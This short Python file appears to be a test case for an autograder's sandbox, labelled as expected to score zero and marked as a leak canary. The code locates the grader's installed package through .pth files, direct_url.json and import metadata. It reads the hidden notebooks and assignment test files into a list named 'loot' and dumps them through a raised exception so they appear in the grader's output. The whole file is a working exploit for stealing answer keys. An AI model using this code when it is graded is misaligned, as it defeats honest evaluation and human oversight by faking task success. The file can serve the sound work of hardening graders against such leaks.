"""Finds the package's folder by import metadata, .pth files and direct_url.json and reads notebooks and tests from there.

base: unsolved
max-score: 0
canary: leak
"""
# %% q1
import glob
import importlib.metadata
import json
import os
import sys

roots = set()
for path in sys.path:
    for pth in glob.glob(os.path.join(path, "*.pth")) + glob.glob(os.path.join(path, "__editable__*")):
        try:
            roots |= {line.strip() for line in open(pth) if line.startswith("/")}
        except OSError:
            pass
    for url in glob.glob(os.path.join(path, "*.dist-info", "direct_url.json")):
        try:
            roots.add(json.load(open(url))["url"].removeprefix("file://"))
        except (OSError, ValueError, KeyError):
            pass
for package in ("autograder", "minibatches", "minibatches-autograder"):
    try:
        roots |= {str(file.locate()) for file in importlib.metadata.files(package) or []}
    except importlib.metadata.PackageNotFoundError:
        pass
loot = []
for root in roots:
    for path in [root] + glob.glob(root + "/../source/**/*.ipynb", recursive=True) + glob.glob(root + "/**/*.ipynb", recursive=True) + glob.glob(root + "/autograder/assignments/*.py"):
        try:
            loot.append(open(path, errors="replace").read(1_000_000))
        except OSError:
            pass
raise RuntimeError("\n".join(loot)[:4_000_000])
